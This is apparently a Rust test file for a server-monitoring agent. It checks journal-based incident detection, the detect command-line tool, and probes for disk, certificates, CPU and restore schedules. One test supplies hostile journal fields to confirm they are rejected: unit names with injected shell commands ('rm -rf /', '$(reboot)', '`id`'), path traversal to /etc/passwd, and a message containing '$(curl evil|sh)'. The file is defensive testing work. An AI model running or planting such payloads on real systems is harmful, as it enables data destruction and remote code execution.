//! Detection on real journal files (systemd-journal-remote + journalctl), the `detect` CLI,
//! hostile fields, and the probes against the real system (statvfs, /proc/stat, openssl certs).

#[path = "fixtures/journal/helpers.rs"]
mod helpers;

use std::collections::BTreeSet;
use std::path::Path;
use std::process::Command;

use chrono::Utc;
use helpers::*;
use msp_agent::detect::probes::{self, CpuProbe, RestoreSchedule};
use msp_agent::detect::unit_name::is_valid_unit_name;
use msp_agent::detect::{DetectConfig, Detector, Finding, IncidentIds};
use msp_agent::incident::{Incident, IncidentSource};
use msp_agent::journal::{Input, JournalSource, SourceConfig};

fn detect_lib(files: Vec<std::path::PathBuf>) -> Vec<Incident> {
    let mut s = JournalSource::start(&SourceConfig::new(Input::Files(files))).unwrap();
    let mut d = Detector::new(DetectConfig::new(), IncidentIds::in_memory());
    let mut out = vec![];
    while let Some(e) = s.next().unwrap() {
        out.extend(d.observe(&e, Utc::now()).unwrap());
    }
    out
}

fn cli(args: &[&str]) -> (i32, String, String) {
    let o = Command::new(env!("CARGO_BIN_EXE_msp-agent")).args(args).output().unwrap();
    (o.status.code().unwrap_or(-1), String::from_utf8(o.stdout).unwrap(), String::from_utf8_lossy(&o.stderr).into_owned())
}

#[test]
fn each_incident_class_is_detected_once_per_failure() {
    let d = tempfile::tempdir().unwrap();
    let files = make_fixture_journals(d.path(), &["failures"]);
    let got: BTreeSet<(String, Option<String>)> = detect_lib(files.clone()).into_iter().map(|i| (i.event_type, i.unit)).collect();
    let want: BTreeSet<(String, Option<String>)> = [
        ("service_crash", Some("nginx.service")),
        ("service_crash", Some("postgresql.service")), // restart loop + start-limit-hit: one incident
        ("backup_failure", Some("restic-backups-daily.service")),
        ("disk_full", None),
        ("cert_expiry", Some("nginx.service")),
        ("cert_expiry", Some("msp-sync.service")),
        ("service_crash", Some("clinic-portal.service")),
    ]
    .into_iter()
    .map(|(e, u)| (e.to_string(), u.map(str::to_string)))
    .collect();
    assert_eq!(got, want);
    // Exactly 7: dedupe folded the several systemd lines of each failure.
    assert_eq!(detect_lib(files).len(), 7);
}

#[test]
fn a_normal_journal_yields_no_incident() {
    let d = tempfile::tempdir().unwrap();
    let files = make_fixture_journals(d.path(), &["normal"]);
    let incidents = detect_lib(files.clone());
    assert!(incidents.is_empty(), "{incidents:#?}");
    let (code, out, err) = cli(&["detect", "--journal-file", files[0].to_str().unwrap()]);
    assert_eq!((code, out.as_str()), (0, ""), "{err}");
}

#[test]
fn detect_cli_json_lines_carry_runbook_cursor_and_timestamp() {
    let d = tempfile::tempdir().unwrap();
    make_fixture_journals(d.path(), &["failures", "normal"]);
    let (code, out, err) = cli(&["detect", "--journal-dir", d.path().to_str().unwrap(), "--json"]);
    assert_eq!(code, 0, "{err}");
    let lines: Vec<serde_json::Value> = out.lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    assert_eq!(lines.len(), 7, "{out}");
    for v in &lines {
        // Planned with the shipped runbooks, as the daemon would: each class has its runbook.
        let expected = match v["event_type"].as_str().unwrap() {
            "service_crash" => "RB-SERVICE-001",
            "backup_failure" => "RB-BACKUP-001",
            "disk_full" => "RB-DISK-001",
            "cert_expiry" => "RB-CERT-001",
            "high_cpu" => "RB-CPU-001",
            "restore_test_due" => "RB-RESTORE-001",
            other => panic!("unexpected event type {other}"),
        };
        assert_eq!(v["runbook_id"].as_str(), Some(expected), "{v}");
        assert!(v["escalation"].is_null(), "{v}");
        assert!(v["__CURSOR"].as_str().unwrap().starts_with("s="), "{v}");
        assert!(v["__REALTIME_TIMESTAMP"].as_str().unwrap().parse::<u64>().unwrap() > 1_700_000_000_000_000);
        assert!(v["incident_id"].as_str().unwrap().starts_with("INC-"));
    }
    let backup = lines.iter().find(|v| v["event_type"] == "backup_failure").unwrap();
    assert_eq!(backup["unit"], "restic-backups-daily.service");
    assert_eq!(backup["runbook_id"], "RB-BACKUP-001");
    // The cursor printed is the one journalctl reports for that entry.
    let cur = backup["__CURSOR"].as_str().unwrap();
    let o = Command::new("journalctl").arg(format!("--file={}", d.path().join("failures.journal").display()))
        .arg(format!("--cursor={cur}")).args(["-n", "1", "-o", "cat", "--no-pager"]).output().unwrap();
    assert!(String::from_utf8_lossy(&o.stdout).contains("restic-backups-daily.service: Main process exited"));

    // Text mode: one line per incident with the same facts.
    let (code, text, _) = cli(&["detect", "--journal-file", d.path().join("failures.journal").to_str().unwrap()]);
    assert_eq!(code, 0);
    assert_eq!(text.lines().count(), 7);
    assert!(text.lines().any(|l| l.contains("backup_failure") && l.contains("runbook=RB-BACKUP-001") && l.contains("unit=restic-backups-daily.service") && l.contains("__CURSOR=s=")));
    // Errors name the input.
    let (code, _, err) = cli(&["detect", "--journal-dir", "/nonexistent-dir"]);
    assert_eq!(code, 2);
    assert!(err.contains("/nonexistent-dir"), "{err}");
}

/// A PID-1 style entry whose unit fields are hostile.
fn hostile_pid1(t: u64, unit_field: Vec<u8>, message: Vec<u8>) -> Vec<u8> {
    let mut e = vec![];
    e.extend(text("__REALTIME_TIMESTAMP", &t.to_string()));
    e.extend(text("__MONOTONIC_TIMESTAMP", &(t % 1_000_000_000_000).to_string()));
    e.extend(text("_BOOT_ID", BOOT_A));
    e.extend(text("_PID", "1"));
    e.extend(text("_SYSTEMD_UNIT", "init.scope"));
    e.extend(text("MESSAGE_ID", "d9b373ed55a64feb8242e02dbe79a49c"));
    e.extend(unit_field);
    e.extend(message);
    e.push(b'\n');
    e
}

#[test]
fn hostile_fields_neither_crash_nor_reach_incident_unit() {
    let d = tempfile::tempdir().unwrap();
    let f = d.path().join("hostile.journal");
    let t0 = 1_700_000_000_000_000u64;
    let step = 120_000_000; // beyond the dedupe window: each entry stands alone
    let units: Vec<Vec<u8>> = vec![
        text("UNIT", "nginx.service; rm -rf / #.service"),
        text("UNIT", "$(reboot).service"),
        text("UNIT", "`id`.service"),
        binary("UNIT", b"nginx.service\nUNIT=sshd.service"),
        binary("UNIT", b"ng\xffinx.service"),
        text("UNIT", &format!("{}.service", "a".repeat(300))),
        text("UNIT", "../../etc/passwd.service"),
        text("UNIT", "-.mount"), // valid (root mount) — stays, consumers pass it after `--`
    ];
    let mut export = vec![];
    for (i, u) in units.into_iter().enumerate() {
        export.extend(hostile_pid1(t0 + i as u64 * step, u, text("MESSAGE", "x: Failed with result 'exit-code'.")));
    }
    // Huge and binary messages, from PID 1 and from a service with a hostile own unit.
    let mut big = b"y.service: Failed with result 'exit-code'. ".to_vec();
    big.extend(std::iter::repeat_n(b'A', 1 << 20));
    export.extend(hostile_pid1(t0 + 20 * step, text("UNIT", "big.service"), binary("MESSAGE", &big)));
    export.extend(hostile_pid1(t0 + 21 * step, text("UNIT", "bin.service"), binary("MESSAGE", b"bin.service: Failed with result '\x1b[31m\nfake line\r\x00\xfe'.")));
    let mut svc = vec![];
    svc.extend(text("__REALTIME_TIMESTAMP", &(t0 + 22 * step).to_string()));
    svc.extend(text("__MONOTONIC_TIMESTAMP", &((t0 + 22 * step) % 1_000_000_000_000).to_string()));
    svc.extend(text("_BOOT_ID", BOOT_A));
    svc.extend(text("_PID", "4242"));
    // A system service's process (root), so the rule applies and the hostile unit is tested.
    svc.extend(text("_UID", "0"));
    svc.extend(binary("_SYSTEMD_UNIT", b"evil\n.service"));
    svc.extend(text("MESSAGE", "TLS: certificate has expired; $(curl evil|sh) `id` && reboot"));
    svc.extend(binary("X_HUGE", &vec![b'\n'; 1 << 20]));
    svc.push(b'\n');
    export.extend(svc);
    write_journal(&f, &export);

    let incidents = detect_lib(vec![f.clone()]);
    assert_eq!(incidents.len(), 11, "{incidents:#?}");
    for i in &incidents {
        if let Some(u) = &i.unit {
            assert!(is_valid_unit_name(u), "unvalidated unit {u:?}");
        }
        for v in i.details.values() {
            if let Some(s) = v.as_str() {
                assert!(!s.chars().any(char::is_control), "control char in {s:?}");
                assert!(s.chars().count() <= 1025, "unbounded detail ({} chars)", s.chars().count());
            }
        }
        assert!(matches!(&i.source, IncidentSource::Journal { cursor, .. } if cursor.starts_with("s=")));
    }
    let units: Vec<Option<&str>> = incidents.iter().map(|i| i.unit.as_deref()).collect();
    assert_eq!(
        units,
        [None, None, None, None, None, None, None, Some("-.mount"), Some("big.service"), Some("bin.service"), None]
    );
    assert_eq!(incidents[0].details["unit_invalid"], "nginx.service; rm -rf / #.service");
    assert_eq!(incidents[3].details["unit_invalid"], "nginx.service?UNIT=sshd.service");
    assert_eq!(incidents[8].details["entry_truncated"], true);
    assert_eq!(incidents[10].event_type, "cert_expiry");

    // The CLI prints one line per incident whatever the fields contain.
    let (code, out, err) = cli(&["detect", "--journal-file", f.to_str().unwrap()]);
    assert_eq!(code, 0, "{err}");
    assert_eq!(out.lines().count(), 11, "{out}");
}

#[test]
fn incident_ids_are_sequential_and_persisted() {
    let d = tempfile::tempdir().unwrap();
    let files = make_fixture_journals(d.path(), &["failures"]);
    let state = d.path().join("incident-ids.json");
    let run = || {
        let mut s = JournalSource::start(&SourceConfig::new(Input::Files(files.clone()))).unwrap();
        let mut det = Detector::new(DetectConfig::new(), IncidentIds::open(&state).unwrap());
        let mut ids = vec![];
        while let Some(e) = s.next().unwrap() {
            if let Some(i) = det.observe(&e, Utc::now()).unwrap() {
                ids.push(i.incident_id);
            }
        }
        ids
    };
    let day = Utc::now().format("%Y%m%d").to_string();
    let first = run();
    let second = run();
    assert_eq!(first[0], format!("INC-{day}-0001"));
    assert_eq!(first[6], format!("INC-{day}-0007"));
    assert_eq!(second[0], format!("INC-{day}-0008"), "counter survives a restart");
}

// ------------------------------------------------------------------ probes

#[test]
fn disk_probe_reads_the_real_filesystem() {
    let d = tempfile::tempdir().unwrap();
    let (pct, avail) = probes::disk_usage(d.path()).unwrap();
    assert!((0.0..=100.0).contains(&pct));
    // Cross-check with df.
    let o = Command::new("df").args(["--output=pcent"]).arg(d.path()).output().unwrap();
    let df: f64 = String::from_utf8_lossy(&o.stdout).lines().nth(1).unwrap().trim().trim_end_matches('%').parse().unwrap();
    assert!((df - pct).abs() <= 1.0, "df {df}% vs probe {pct}%");
    assert!(avail > 0);
    let mounts = vec![d.path().to_path_buf()];
    assert!(probes::probe_disks(&mounts, 101.0).unwrap().is_empty());
    let found = probes::probe_disks(&mounts, 0.0).unwrap();
    let mut det = Detector::new(DetectConfig::new(), IncidentIds::in_memory());
    let inc = det.probe_incident(&found[0], Utc::now()).unwrap();
    assert_eq!(inc.event_type, "disk_full");
    assert_eq!(inc.source, IncidentSource::Probe { probe: "disk".into() });
    assert!(probes::disk_usage(Path::new("/nonexistent")).is_err());
}

fn openssl_cert(dir: &Path, name: &str, days: u32) {
    let o = Command::new("openssl")
        .args(["req", "-x509", "-newkey", "ed25519", "-nodes", "-subj", &format!("/CN={name}"), "-days", &days.to_string()])
        .arg("-keyout").arg(dir.join(format!("{name}.key")))
        .arg("-out").arg(dir.join(format!("{name}.pem")))
        .output().unwrap();
    assert!(o.status.success(), "openssl: {}", String::from_utf8_lossy(&o.stderr));
}

#[test]
fn cert_probe_finds_certificates_expiring_within_threshold() {
    let d = tempfile::tempdir().unwrap();
    openssl_cert(d.path(), "soon.clinic.example", 5);
    openssl_cert(d.path(), "later.clinic.example", 400);
    let now = Utc::now();
    let found = probes::probe_certs(d.path(), 30, now).unwrap();
    assert_eq!(found.len(), 1, "{found:?}");
    let Finding::CertExpiring { subject, days_left, .. } = &found[0] else { panic!() };
    assert!(subject.contains("soon.clinic.example"));
    assert!((4..=5).contains(days_left), "{days_left}");
    // Seen from 10 days in the future it has expired: negative days.
    let later = probes::probe_certs(d.path(), 30, now + chrono::Duration::days(10)).unwrap();
    let Finding::CertExpiring { days_left, .. } = &later[0] else { panic!() };
    assert!(*days_left < 0);
    let mut det = Detector::new(DetectConfig::new(), IncidentIds::in_memory());
    let inc = det.probe_incident(&found[0], now).unwrap();
    assert_eq!((inc.event_type.as_str(), inc.severity), ("cert_expiry", msp_agent::incident::Severity::Critical));
    // A file that is not a certificate is an error naming it.
    std::fs::write(d.path().join("junk.pem"), "-----BEGIN CERTIFICATE-----\nnot base64!\n-----END CERTIFICATE-----\n").unwrap();
    let err = probes::probe_certs(d.path(), 30, now).unwrap_err();
    assert!(format!("{err:#}").contains("junk.pem"), "{err:#}");
}

#[test]
fn cpu_probe_reads_proc_stat_and_names_the_busiest_unit() {
    // Real /proc/stat; the cgroup tree is a FAKE directory with the cgroup v2 cpu.stat format,
    // because this machine's /sys/fs/cgroup/system.slice is not ours to load. Threshold 0 so
    // any real load counts.
    let d = tempfile::tempdir().unwrap();
    let cg = d.path().join("system.slice");
    for u in ["nginx.service", "postgresql.service"] {
        std::fs::create_dir_all(cg.join(u)).unwrap();
    }
    std::fs::create_dir_all(cg.join("cpu.max")).unwrap(); // not a unit: ignored
    let write = |nginx: u64, pg: u64| {
        std::fs::write(cg.join("nginx.service/cpu.stat"), format!("usage_usec {nginx}\nuser_usec 1\nsystem_usec 1\n")).unwrap();
        std::fs::write(cg.join("postgresql.service/cpu.stat"), format!("usage_usec {pg}\nuser_usec 1\nsystem_usec 1\n")).unwrap();
    };
    let mut p = CpuProbe::new(0.0, 2);
    p.cgroup_root = cg.clone();
    let spin = || {
        let t = std::time::Instant::now();
        let mut x = 0u64;
        while t.elapsed() < std::time::Duration::from_millis(100) {
            x = x.wrapping_add(1);
        }
        std::hint::black_box(x);
    };
    write(1_000, 1_000);
    assert!(p.sample().unwrap().is_none(), "first sample is the baseline");
    spin();
    write(2_000, 90_000);
    assert!(p.sample().unwrap().is_none(), "one high sample is not sustained");
    spin();
    write(3_000, 180_000);
    let f = p.sample().unwrap().expect("two consecutive samples over 0%");
    let Finding::HighCpu { top_unit, samples, .. } = &f else { panic!("{f:?}") };
    assert_eq!(*samples, 2);
    assert_eq!(top_unit.as_ref().unwrap().0, "postgresql.service");
    let mut det = Detector::new(DetectConfig::new(), IncidentIds::in_memory());
    let inc = det.probe_incident(&f, Utc::now()).unwrap();
    assert_eq!((inc.event_type.as_str(), inc.unit.as_deref()), ("high_cpu", Some("postgresql.service")));
    // An impossible threshold never fires.
    let mut quiet = CpuProbe::new(101.0, 1);
    quiet.cgroup_root = cg;
    for _ in 0..3 {
        assert!(quiet.sample().unwrap().is_none());
    }
}

#[test]
fn restore_schedule_is_due_after_the_interval_and_persists() {
    let d = tempfile::tempdir().unwrap();
    let p = d.path().join("restore-schedule.json");
    let now = Utc::now();
    let mut s = RestoreSchedule::load(&p).unwrap();
    assert!(s.check(7, now).is_some(), "never ran: due");
    s.record_run(&p, now).unwrap();
    let s = RestoreSchedule::load(&p).unwrap();
    assert!(s.check(7, now + chrono::Duration::days(6)).is_none());
    let f = s.check(7, now + chrono::Duration::days(7)).unwrap();
    let inc = Detector::new(DetectConfig::new(), IncidentIds::in_memory()).probe_incident(&f, now).unwrap();
    assert_eq!(inc.event_type, "restore_test_due");
    std::fs::write(&p, "{\"last_run\": 5}").unwrap();
    assert!(format!("{:#}", RestoreSchedule::load(&p).unwrap_err()).contains("restore-schedule.json"));
}
